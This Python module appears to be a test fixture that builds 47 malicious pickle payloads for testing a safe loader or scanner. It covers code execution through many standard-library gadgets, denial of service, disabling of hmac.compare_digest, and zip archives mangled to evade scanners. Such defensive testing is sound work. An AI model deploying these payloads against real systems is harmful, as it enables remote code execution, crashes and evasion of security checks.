"""Hostile pickles: what a thief of the database would put in the place of an honest one.

Some leave a mark when they are read, by which it is known that they ran. Others end, crash or hang
the process, fill its memory, disarm it, or hide from scanners.
"""

import bdb
import code
import cProfile
import ctypes
import functools
import imaplib
import importlib
import io
import itertools
import logging
import operator
import os
import pathlib
import pickle
import pkgutil
import pydoc
import re
import runpy
import shutil
import subprocess
import sys
import time
import timeit
import types
import urllib.request
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import dill


class Calls:
    """Pickles as a call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


class SetsState:
    """Pickles as an object whose state is set by a function of the thief's."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> Any:
        return dict, (), {"x": 1}, None, None, functools.partial(exec, self.text)


def call(function: Any, *arguments: Any) -> bytes:
    return pickle.dumps({"object": Calls(function, *arguments)})


class Marshalled:
    def __init__(self, code: types.CodeType) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        import marshal

        return marshal.loads, (marshal.dumps(self.code),)


def in_dill(mark: str) -> bytes:
    def body() -> None:
        open(mark, "w").close()

    buffer = io.BytesIO()
    dill.Pickler(buffer, recurse=True).dump({"object": Calls(operator.call, body)})
    return buffer.getvalue()


def in_zip(pickled: bytes) -> bytearray:
    """As torch.save writes it: an archive with the pickle in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
    return bytearray(buffer.getvalue())


def mangled(archive: bytearray, offset: int, value: bytes) -> bytes:
    """An archive with a field of its directory changed: scanners give up, loaders may not."""
    at = archive.rindex(b"PK\x01\x02") + offset
    archive[at : at + len(value)] = value
    return bytes(archive)


def laughs() -> bytes:
    """A list of lists of lists...: 10 to the 9th elements if anybody looks."""
    items: list[Any] = ["lol"]
    for _ in range(9):
        items = [items] * 10
    return pickle.dumps({"object": items})


def kinds(mark: str) -> dict[str, bytes]:
    """All 47 kinds."""
    return {**marking(mark), **harming(mark)}


def harming(mark: str) -> dict[str, bytes]:
    """Pickles that do harm without leaving the mark, by kind."""
    archive = in_zip(call(os.system, f"touch {mark}"))
    deep = 100_000
    return {
        "billion laughs": laughs(),
        "8 GiB": call(bytearray, 8 << 30),
        "lying length": b"\x80\x05\x96" + (1 << 40).to_bytes(8, "little") + b"x.",
        "huge memo index": b"\x80\x04Nr\xff\xff\xff\x7f.",
        "deep": b"(" * deep + b"t" * deep + b".",
        "regular expression": call(re.match, "(a|aa)+$", "a" * 60 + "b"),
        "power": call(pow, 3, 1 << 40),
        "sleep": call(time.sleep, 600),
        "null pointer": call(ctypes.string_at, 0),
        "sys.exit": call(sys.exit, 3),
        "disarms comparison": call(
            setattr, Calls(importlib.import_module, "hmac"), "compare_digest", operator.is_not
        ),
        "archive": bytes(archive),
        "archive with a wrong checksum": mangled(archive[:], 16, b"\0\0\0\0"),
        "archive marked as encrypted": mangled(archive[:], 8, b"\1"),
    }


def marking(mark: str) -> dict[str, bytes]:
    """Pickles that make the file when they are read, by kind."""
    touch, text = f"touch {mark}", f"open({mark!r}, 'w').close()"
    made: dict[str, Callable[[], bytes]] = {
        "os.system": lambda: call(os.system, touch),
        "GLOBAL": lambda: f"cposix\nsystem\n(S'{touch}'\ntR.".encode(),
        "INST": lambda: f"(S'{touch}'\niposix\nsystem\n.".encode(),
        "OBJ": lambda: f"(cposix\nsystem\nS'{touch}'\no.".encode(),
        "eval": lambda: call(eval, text),
        "exec": lambda: call(exec, text),
        "Popen": lambda: call(subprocess.check_call, ["touch", mark]),
        "resolve_name": lambda: call(
            operator.call, Calls(pkgutil.resolve_name, "os:system"), touch
        ),
        "partial": lambda: call(functools.partial(os.system, touch)),
        "pickle in pickle": lambda: call(pickle.loads, call(os.system, touch)),
        "dill in pickle": lambda: call(dill.loads, call(os.system, touch)),
        "methodcaller": lambda: call(operator.methodcaller("touch"), pathlib.Path(mark)),
        "truncated": lambda: f"cposix\nsystem\n(S'{touch}'\ntR".encode(),
        "popped": lambda: f"cposix\nsystem\n(S'{touch}'\ntR0}}S'object'\nNs.".encode(),
        "second pickle": lambda: pickle.dumps({"object": Calls(pickle.loads, call(exec, text))}),
        "FileHandler": lambda: call(logging.FileHandler, mark),
        "pathlib": lambda: call(pathlib.Path.write_text, pathlib.Path(mark), "x"),
        "shutil": lambda: call(shutil.copyfile, os.__file__, mark),
        "timeit": lambda: call(timeit.timeit, text, "pass", timeit.default_timer, 1),
        "runpy": lambda: call(runpy._run_code, text, {}),
        "compressed": lambda: call(exec, Calls(zlib.decompress, zlib.compress(text.encode()))),
        "bytecode": lambda: call(exec, Marshalled(compile(text, "x", "exec"))),
        "setstate": lambda: pickle.dumps({"object": SetsState(text)}),
        "by dill": lambda: in_dill(mark),
        "open": lambda: call(open, mark, "w"),
        "name made while reading": lambda: call(
            operator.call,
            Calls(getattr, Calls(importlib.import_module, "os"), Calls(str.lower, "SYSTEM")),
            touch,
        ),
        "imaplib": lambda: call(imaplib.IMAP4_stream, f"{touch}; echo '* OK'"),
        "cProfile": lambda: call(cProfile.run, text, os.devnull),
        "bdb": lambda: call(operator.methodcaller("run", text), Calls(bdb.Bdb)),
        "file URL": lambda: call(urllib.request.urlretrieve, f"file://{os.__file__}", mark),
        "starmap": lambda: call(list, Calls(itertools.starmap, exec, [(text,)])),
        "interpreter": lambda: call(
            operator.methodcaller("runsource", text), Calls(code.InteractiveInterpreter)
        ),
        "pager": lambda: call(pydoc.pipepager, "", touch),
    }
    return {name: make() for name, make in made.items()}
